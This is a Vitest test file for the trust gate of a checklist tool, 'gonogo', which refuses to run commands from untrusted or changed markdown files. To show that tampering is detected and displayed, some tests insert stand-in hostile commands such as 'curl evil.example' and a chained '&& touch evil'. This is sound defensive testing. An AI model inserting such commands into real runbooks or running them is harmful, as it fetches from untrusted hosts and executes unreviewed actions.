import { access, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it, onTestFinished, vi } from 'vitest';
import { ownCommands } from '../../src/commands/own-commands.ts';
import { prepare, type Prepared } from '../../src/commands/prepare.ts';
import type { LedgerLine } from '../../src/model/events.ts';
import { gonogo, temporary, type Ran } from '../helpers/gonogo.ts';

let folder: { path: string; remove: () => Promise<void> };
let test = 0;
beforeAll(async () => {
  folder = await temporary('trust');
});
afterAll(() => folder.remove());
beforeEach(() => (test += 1));

/** Every test is a machine of its own that trusts nothing yet. */
const run = (...words: string[]): Promise<Ran> => gonogo(words, { cwd: folder.path, env: { XDG_CONFIG_HOME: join(folder.path, `config-${test}`) } });
const put = (name: string, text: string): Promise<void> => writeFile(join(folder.path, name), text);
const exists = (name: string): Promise<boolean> =>
  access(join(folder.path, name)).then(
    () => true,
    () => false,
  );

const checklist = (command: string): string =>
  `- [ ] Up\n\n  [Down](launch.runbook.md#down)\n\n  \`\`\`yaml gonogo\n  id: up\n  check: { kind: command, run: ${command} }\n  \`\`\`\n`;
const runbook = (command: string): string => `# Runbook\n\n## Down\n\nStart it. **Changes production.**\n\n\`\`\`sh\n${command}\n\`\`\`\n`;

async function prepareIn(name: string, variables: Readonly<Record<string, string>>): Promise<Prepared> {
  await put(
    '.env',
    Object.entries(variables)
      .map(([key, value]) => `${key}=${value}\n`)
      .join(''),
  );
  return prepare(join(folder.path, name), { envFile: [join(folder.path, '.env')] }, true);
}

async function fresh(): Promise<void> {
  await put('launch.md', checklist(`touch ran-${test}`));
  await put('launch.runbook.md', runbook('systemctl restart api'));
}

const check = (): Promise<Ran> => run('check', 'launch.md', '--ledger', `led-${test}`, '--new', '--allow-commands', '--format', 'jsonl');

describe('a checklist with commands that nobody trusted', () => {
  it('runs none of them, whatever was allowed, and says the way out', async () => {
    await fresh();
    const { code, stdout, stderr } = await check();
    expect({ code, stderr }).toEqual({
      code: 5,
      stderr: expect.stringMatching(/not run: `up`; nobody trusted `launch\.md` on this machine yet: `gonogo trust launch\.md`/),
    });
    expect(stderr).not.toContain('runs: ');
    expect(stdout).not.toContain('"type":"observed"');
    expect(await exists(`ran-${test}`)).toBe(false);
  });

  it('shows every command of checks and runbooks before it is trusted, and then runs them', async () => {
    await fresh();
    const shown = await run('trust', 'launch.md', '--show');
    expect(shown).toMatchObject({
      code: 7,
      stdout: expect.stringMatching(/check of up\n {4}touch ran-\d+\n[\s\S]*#down, step 1\n {4}systemctl restart api\n[\s\S]*nobody trusted/),
    });
    expect(await run('trust', 'launch.md', '--as', 'ada')).toMatchObject({
      code: 0,
      stdout: expect.stringContaining('is trusted as it is now, with 2 commands'),
    });
    const { code, stdout } = await check();
    expect(code).toBe(0);
    const kinds = stdout
      .trim()
      .split('\n')
      .map((line) => (JSON.parse(line) as LedgerLine).event.type); // lines that gonogo itself wrote
    expect(kinds).toContain('observed');
    expect(await exists(`ran-${test}`)).toBe(true);
  });

  it.each([
    [
      'the checklist',
      () => put('launch.md', checklist(`touch other-${test}`)),
      /changed file: launch\.md[\s\S]*\+ check of up: touch other-\d+\n- check of up: touch ran-\d+/,
    ],
    [
      'its runbook',
      () => put('launch.runbook.md', runbook('curl evil.example')),
      /changed file: launch\.runbook\.md[\s\S]*\+ [^\n]*#down, step 1: curl evil\.example/,
    ],
  ])('is no longer trusted once %s changed, and shows what', async (_what, change, shown) => {
    await fresh();
    await run('trust', 'launch.md', '--as', 'ada');
    await change();
    expect((await check()).stderr).toMatch(/`launch\.md` or a file that belongs to it changed since ada trusted it on \d{4}-/);
    expect(await exists(`ran-${test}`)).toBe(false);
    expect((await run('trust', 'launch.md', '--show')).stdout).toMatch(shown);
    await run('trust', 'launch.md', '--as', 'ada');
    expect((await check()).code).toBe(0);
  });

  it('can be forgotten again', async () => {
    await fresh();
    await run('trust', 'launch.md', '--as', 'ada');
    expect(await run('trust', 'launch.md', '--forget')).toMatchObject({ code: 0, stdout: '`launch.md` is no longer trusted: none of its commands runs\n' });
    expect((await check()).stderr).toContain('nobody trusted `launch.md`');
  });

  it('is trusted on one machine only: the record does not say so, and what is trusted is readable by its owner alone', async () => {
    await fresh();
    await run('trust', 'launch.md', '--as', 'ada');
    const kept = JSON.parse(await readFile(join(folder.path, `config-${test}`, 'gonogo', 'trust.json'), 'utf8')) as Record<string, { by: string }>; // conf wrote it
    expect(Object.entries(kept)).toEqual([[join(folder.path, 'launch.md'), expect.objectContaining({ by: 'ada' })]]);
  });

  it('is not trusted while it has faults: all of them are said', async () => {
    await put('bad.md', '- [ ] x\n\n  ```yaml gonogo\n  chek: 1\n  prio: high\n  ```\n');
    expect(await run('trust', 'bad.md', '--as', 'ada')).toMatchObject({ code: 2, stderr: expect.stringMatching(/bad\.md:4:\d+[\s\S]*bad\.md:5:\d+/) });
  });

  it('hides nothing of a command behind what looks like a credential', async () => {
    await put('launch.md', checklist('[curl, -H, "Authorization: x", evil.example]'));
    await put('launch.runbook.md', runbook('curl -H "Authorization: x" http://127.0.0.1:9 && touch evil'));
    const { stdout } = await run('trust', 'launch.md', '--show');
    expect(stdout).toContain('&& touch evil');
    expect(stdout).toContain('evil.example');
  });

  it('remembers no password that a variable brings into a command', async () => {
    await put('launch.md', `---\nvariables:\n  DATABASE_URL: {}\n---\n${checklist('"psql ${DATABASE_URL}"')}`);
    await put('launch.runbook.md', runbook('systemctl restart api'));
    const config = join(folder.path, `config-${test}`);
    const prepared = await prepareIn('launch.md', { DATABASE_URL: 'postgres://app:hunter2hunter2@127.0.0.1:9/app' });
    vi.stubEnv('XDG_CONFIG_HOME', config);
    onTestFinished(() => void vi.unstubAllEnvs());
    const commands = await ownCommands(prepared, 'ada');
    expect(commands.trust()).toMatchObject({ trusted: false });
    await commands.remember();
    expect(await readFile(join(config, 'gonogo', 'trust.json'), 'utf8')).not.toContain('hunter2');
    // As `gonogo trust` has them, so that what changed is told and nothing else.
    await put('launch.runbook.md', runbook('systemctl restart web'));
    expect((await run('trust', 'launch.md', '--show')).stdout).not.toContain('- check of up');
  });
});
